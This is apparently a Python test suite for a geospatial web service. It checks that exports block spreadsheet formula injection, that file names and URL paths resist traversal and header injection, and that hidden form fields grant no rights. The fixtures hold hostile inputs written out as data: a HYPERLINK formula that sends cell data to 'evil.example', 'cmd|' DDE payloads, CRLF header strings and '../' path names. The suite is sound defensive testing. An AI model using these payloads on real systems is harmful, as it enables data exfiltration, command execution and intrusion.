"""Names that mean harm, on their way out: formulas in tables, line ends in headers, paths in file
names; and members of a body that would make somebody more than they are."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from access.own_and_foreign import World, city_of, put
from conftest import bearer, make_key, owner
from gridwarden.access.accounts.commands import _table
from gridwarden.settings import Settings
from intake.conftest import post, work

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
RUNS = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
NAMES = (
    "x\r\nSet-Cookie: pwned=1",
    "../../../../tmp/gw-pwned",
    "..\\..\\gw-pwned",
    "/etc/gw-pwned",
)


@pytest.fixture(scope="module")
def world(module_city: Settings) -> World:
    """Things, organisations and requests that are called formulas."""
    made = city_of(module_city)
    with owner(module_city) as c:
        for n, text in enumerate(FORMULAS):
            place = f"POINT({505_000 + 20 * n} 3421000)"
            put(c, "charging_sheds", place, name=text, code=text)
            row = {"method": "hand", "name": text, "contractor": text, "ends_on": "2099-01-01"}
            put(c, "excavations", place, **row)
            put(c, "organisations", None, name=text, kind="gas_company")
    return made


def cells_of(body: bytes, media: str) -> Iterator[tuple[str, bool]]:
    """Every cell of a CSV or a workbook: its text, and whether a spreadsheet would work it out."""
    if body[:4] == b"PK\x03\x04":
        book = openpyxl.load_workbook(io.BytesIO(body))
        for sheet in book:
            for row in sheet.iter_rows():
                yield from ((str(one.value), one.data_type == "f") for one in row)
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            sheets = [one for one in archive.namelist() if one.startswith("xl/worksheets/")]
            assert all(b"<f>" not in archive.read(one) for one in sheets)
        return
    assert "csv" in media
    for line in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
        for cell in line:
            yield cell, bool(RUNS.match(cell)) and not NUMBER.fullmatch(cell)


TABLES = (
    ("supervisor", "/api/layers/charging_sheds/export?format=csv"),
    ("supervisor", "/api/layers/charging_sheds/export?format=xlsx"),
    ("supervisor", "/api/layers/excavations/export?format=csv"),
    ("supervisor", "/api/layers/excavations/export?format=xlsx"),
    ("planner", "/api/layers/organisations/export?format=csv"),
    ("planner", "/api/layers/organisations/export?format=xlsx"),
)


@pytest.mark.parametrize(("role", "address"), TABLES)
def test_no_name_is_worked_out_by_a_spreadsheet(
    module_client: TestClient, world: World, role: str, address: str
) -> None:
    headers = bearer(make_key(world.settings, role, all_districts=True))
    answer = module_client.get(address, headers=headers)
    assert answer.status_code == 200, answer.text
    found = list(cells_of(answer.content, answer.headers["content-type"]))
    assert [text for text, runs in found if runs] == []
    assert sum("cmd|" in text for text, _ in found) >= 3, "the names are in the file, as texts"


def test_rejected_rows_go_home_as_texts(
    module_client: TestClient, world: World, tmp_path: Path
) -> None:
    """What was wrong with a file: told in a CSV of ours, whose cells quote the sender's."""
    file = tmp_path / "sheds.csv"
    with file.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["source_id", "name", "places", "lon", "lat"])
        for n, text in enumerate(FORMULAS):
            writer.writerow([f"{text}{n}", text, text, "114.05", "30.9"])
    headers = bearer(make_key(world.settings, "supervisor", all_districts=True))
    sent = post(
        module_client, headers, file, layer="charging_sheds", dataset="=1+1", crs="EPSG:4326"
    )
    assert sent.status_code == 202, sent.text
    work(world.settings, sent.json()["job"])
    url = sent.json()["url"]
    answer = module_client.get(f"{url}/rejects", headers=headers)
    assert answer.status_code == 200, answer.text
    found = list(cells_of(answer.content, answer.headers["content-type"]))
    assert [text for text, runs in found if runs] == []
    assert any("cmd|" in text for text, _ in found), found


def test_a_list_of_first_passwords_runs_nothing() -> None:
    text = _table([(name, f"{name} full", "ABCD-EFGH") for name in FORMULAS])
    found = list(cells_of(text.encode(), "text/csv"))
    assert [one for one, runs in found if runs] == []
    assert sum(one.startswith("'") for one, _ in found) == 2 * len(FORMULAS)


@pytest.mark.parametrize("name", NAMES)
def test_a_file_s_name_is_no_path_and_no_header(
    module_client: TestClient, world: World, name: str
) -> None:
    """Sent as a multipart file; then its rejects are asked for, as a file of that name."""
    headers = bearer(make_key(world.settings, "supervisor", all_districts=True))
    quoted = name.replace("\\", "\\\\").replace('"', '\\"')
    head = f'Content-Disposition: form-data; name="file"; filename="{quoted}.csv"\r\n'
    fields = {"layer": "charging_sheds", "dataset": f"from a file {NAMES.index(name)}"}
    parts = [
        *(f'Content-Disposition: form-data; name="{k}"\r\n\r\n{v}' for k, v in fields.items()),
        f"{head}Content-Type: text/csv\r\n\r\nsource_id,places,lon,lat\r\n1,many,114.05,30.9\r\n",
    ]
    body = "".join(f"--edge\r\n{part}\r\n" for part in parts) + "--edge--\r\n"
    headers["Content-Type"] = "multipart/form-data; boundary=edge"
    sent = module_client.post("/api/imports", headers=headers, content=body.encode())
    if sent.status_code != 202:
        assert sent.status_code == 400, sent.text
        return
    work(world.settings, sent.json()["job"])
    for address in ("", "/rejects", "/rejects/file"):
        answer = module_client.get(f"{sent.json()['url']}{address}", headers=headers)
        assert answer.status_code < 500
        told = answer.headers.get("content-disposition", "")
        assert "pwned" not in answer.headers.get("set-cookie", "")
        assert "/" not in told.replace("UTF-8''", "") and "\\" not in told and ".." not in told
        assert "\r" not in told and "\n" not in told
    assert not Path("/tmp/gw-pwned.csv").exists() and not Path("/etc/gw-pwned.csv").exists()
    assert list(world.settings.home.rglob("*gw-pwned*")) == []


CLIMBS = (
    "..%2f..%2fsecrets",
    "%2e%2e%2f%2e%2e%2fsecrets",
    "..%5c..%5csecrets",
    "%00",
    "a%0d%0ab: c",
)


def test_no_name_in_a_path_is_a_file_or_a_header(module_client: TestClient, world: World) -> None:
    """Names of layers, systems, maps, days and links that are paths or hold line ends."""
    headers = bearer(make_key(world.settings, "supervisor", all_districts=True))
    for path in (
        "/api/layers/{}/export?format=csv",
        "/ogc/collections/{}",
        "/ogc/collections/{}/items",
        "/ogc/collections/buildings/items/{}",
        "/api/cells/{}",
        "/maps/{}.png",
        "/maps/embed/{}.png",
        "/api/permits/checks/{}/replay",
        "/api/findings/{}/picture.svg",
        "/api/imports/{}/rejects/file",
        "/rules/{}",
        "/static/{}",
        "/assets/{}",
    ):
        for climb in CLIMBS:
            answer = module_client.get(path.format(climb), headers=headers, follow_redirects=False)
            assert 400 <= answer.status_code < 500, (path, climb, answer.status_code)
            assert "b: c" not in str(answer.headers) and "b" not in answer.headers
    for query in ("format=csv%0d%0aX-Pwned: 1", "format=../../x", "crs=%0d%0aX-Pwned: 1"):
        answer = module_client.get(f"/api/layers/buildings/export?{query}", headers=headers)
        assert answer.status_code == 400 and "x-pwned" not in answer.headers


MORE = {
    "id": 7,
    "org_id": 1,
    "dataset_id": 1,
    "version": 99,
    "geom": "POINT(0 0)",
    "xid_from": 1,
    "repair": "x",
    "role": "supervisor",
    "person": "somebody else",
    "state": "approved",
}


def test_no_member_of_a_feature_gives_it_to_another_company(
    module_client: TestClient, world: World
) -> None:
    """Unknown members are kept as what they are: a text beside the feature, and no right."""
    ours, theirs = world.orgs
    headers = bearer(make_key(world.settings, "utility", org_ids=(ours,)))
    place = {"type": "Point", "coordinates": [114.05, 30.9]}
    body = {
        "type": "Feature",
        "id": 7,
        "org_id": theirs,
        "geometry": place,
        "properties": MORE | {"method": "hand", "org_id": theirs},
    }
    path = "/ogc/collections/excavations/items"
    sent = module_client.post(
        path, content=json.dumps(body), headers=headers | {"Content-Type": "application/geo+json"}
    )
    if sent.status_code == 201:
        number = int(sent.headers["location"].rpartition("/")[2])
        assert number != 7
        patch = headers | {"Content-Type": "application/merge-patch+json", "If-Match": "*"}
        said = json.dumps({"properties": {"org_id": theirs, "version": 99}, "id": 7})
        changed = module_client.patch(f"{path}/{number}", content=said, headers=patch)
        assert changed.status_code < 500
        with owner(world.settings) as c:
            row = c.execute(
                "select d.org_id, t.version, st_x(t.geom) > 400000 from data.excavations t"
                " join data.dataset d on d.id = t.dataset_id where t.id = %s",
                (number,),
            ).fetchone()
        assert row is not None
        assert row[0] in (ours, None) and row[1] < 99 and row[2]
    else:
        assert sent.status_code in (400, 403), sent.text
    for dataset in ("excavations of None", f"excavations of {theirs}"):
        other = module_client.post(
            f"{path}?dataset={dataset}&org={theirs}",
            content=json.dumps(body | {"properties": {"method": "hand"}}),
            headers=headers | {"Content-Type": "application/geo+json"},
        )
        assert other.status_code in (403, 404, 409), other.text


FORMS = (
    ("planner", "/embeds", {"cells": "districts", "days": "1", "sites": ""}, "embed"),
    ("security", "/accounts", {"name": "formed", "full_name": "F", "role": "viewer"}, "account"),
    ("supervisor", "/export-requests", {"why": "for the archive"}, "export_request"),
)


@pytest.mark.parametrize(("role", "path", "fields", "made"), FORMS, ids=lambda v: str(v)[:20])
def test_no_field_of_a_form_makes_more_of_somebody(
    module_client: TestClient, world: World, role: str, path: str, fields: dict[str, str], made: str
) -> None:
    """Fields that the page does not have: refused by name, or as if they were not there."""
    headers = bearer(make_key(world.settings, role, all_districts=role != "security"))
    hidden = {
        "made_by": "evil",
        "person": "evil",
        "made_as": "administrator",
        "state": "approved",
        "decided_by": "evil",
        "km": "0",
        "id": "77",
        "password_hash": "evil",
        "factor": "evil",
    }
    answer = module_client.post(path, data=fields | hidden, headers=headers, follow_redirects=False)
    assert answer.status_code < 500, answer.text
    schema = "access" if made == "account" else "data"
    with owner(world.settings) as c:
        rows = c.execute(
            f"select to_jsonb(t)::text from {schema}.{made} t order by id desc limit 5"
        ).fetchall()
    assert all("evil" not in row[0] and '"id": 77,' not in row[0] for row in rows)
    assert all('"approved"' not in row[0] for row in rows)
